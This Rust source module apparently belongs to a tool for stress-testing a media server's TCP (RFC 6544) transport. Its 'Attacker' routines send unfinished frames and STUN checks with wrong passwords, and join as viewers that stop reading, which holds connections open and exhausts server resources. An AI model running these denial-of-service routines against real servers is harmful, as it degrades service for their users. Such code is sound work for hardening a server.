//! Attacks by connections for media over TCP (RFC 6544) whose clients never prove themselves, or do not read.

use serde_json::{Value, json};
use synth::client::{Draft, OverTcp};
use synth::stun;

use super::requests::{REOPEN_AFTER, hold, send};
use crate::attacker::{Attacker, PATIENCE};
use crate::page::{Page, hello};
use crate::stream::Stream;

/// Sends a frame that never ends, its first byte alone, or a check for nobody.
pub(super) async fn half_frames(me: &Attacker, n: u64) -> Result<(), String> {
    let mut stream = Stream::Plain(me.connect_tcp(&me.requester(n)).await?);
    let bytes = match n % 4 {
        0 => vec![(n / 4 % 6) as u8],
        1 => [&100_u16.to_be_bytes()[..], &[0; 10]].concat(),
        2 => [&1_500_u16.to_be_bytes()[..], &[0; 1_400]].concat(),
        _ => framed(&stun::check("nobody:here", "no-password-of-24-letters")),
    };
    send(&mut stream, &bytes).await?;
    hold(me, stream, false).await
}

/// Sends a check for a viewer that is there, with a wrong password.
pub(super) async fn unproven(me: &Attacker, n: u64) -> Result<(), String> {
    let ufrag = me.known.get_or_try_init(|| ufrag_of_a_viewer(me)).await?;
    let check = stun::check(&format!("{ufrag}:wrong"), "no-password-of-24-letters");
    let mut stream = Stream::Plain(me.connect_tcp(&me.requester(n)).await?);
    send(&mut stream, &framed(&check)).await?;
    hold(me, stream, false).await
}

/// Watches over TCP until media comes, and then reads nothing more.
pub(super) async fn viewers(me: &Attacker, n: u64) -> Result<(), String> {
    let (mut page, draft, sdp) = watch(me, n).await?;
    let requester = me.requester(n);
    let over = OverTcp { to: me.target.address, from: requester.source(), is_tiny: true };
    let mut client = draft.start_over_tcp(&sdp, over)?;
    me.connected();
    if !client.wait_for(PATIENCE, |it| it.rtp > 0).await {
        return Err("no media".to_owned());
    }
    me.answered("media");
    client.stop_reading().await;
    let _held = me.hold();
    // That the server gave the connection up is behind what is unread.
    match tokio::time::timeout(REOPEN_AFTER, listen(&mut page)).await {
        Ok(reason) => Err(reason),
        Err(_) => Err("opened anew".to_owned()),
    }
}

async fn listen(page: &mut Page) -> String {
    loop {
        if let Err(reason) = page.recv().await {
            return reason;
        }
    }
}

/// The server's fragment of a viewer that is connected over UDP and stays.
async fn ufrag_of_a_viewer(me: &Attacker) -> Result<String, String> {
    let (mut page, draft, sdp) = watch(me, 0).await?;
    let mut client = draft.start(&sdp)?;
    if !client.wait_for(PATIENCE, |it| it.is_connected).await {
        return Err("not connected".to_owned());
    }
    tokio::spawn(async move {
        _ = listen(&mut page).await;
        drop(client);
    });
    let ufrag = sdp.lines().find_map(|it| it.strip_prefix("a=ice-ufrag:"));
    ufrag.map(ToOwned::to_owned).ok_or_else(|| "no fragment".to_owned())
}

/// Joins as a fan; returns the page, the viewer and the server's offer.
async fn watch(me: &Attacker, n: u64) -> Result<(Page, Draft, String), String> {
    let draft = me.clients.viewer(me.target.address.ip())?;
    let mut page = me.page(&me.requester(n), "").await?;
    page.send(&hello(&me.room)).await?;
    let heard = tokio::time::timeout(PATIENCE, page.hear_of("offer")).await;
    let offer: Value = heard.map_err(|_| "no offer".to_owned())??;
    let sdp = me.target.with_own_candidates(offer["sdp"].as_str().unwrap_or_default());
    let answer = draft.answer(&sdp).ok_or("no answer")?;
    let neg = &offer["neg"];
    page.send(&json!({"type": "answer", "pc": "sub", "neg": neg, "sdp": answer})).await?;
    Ok((page, draft, sdp))
}

/// With its length before it (RFC 4571).
fn framed(datagram: &[u8]) -> Vec<u8> {
    [&(datagram.len() as u16).to_be_bytes()[..], datagram].concat()
}
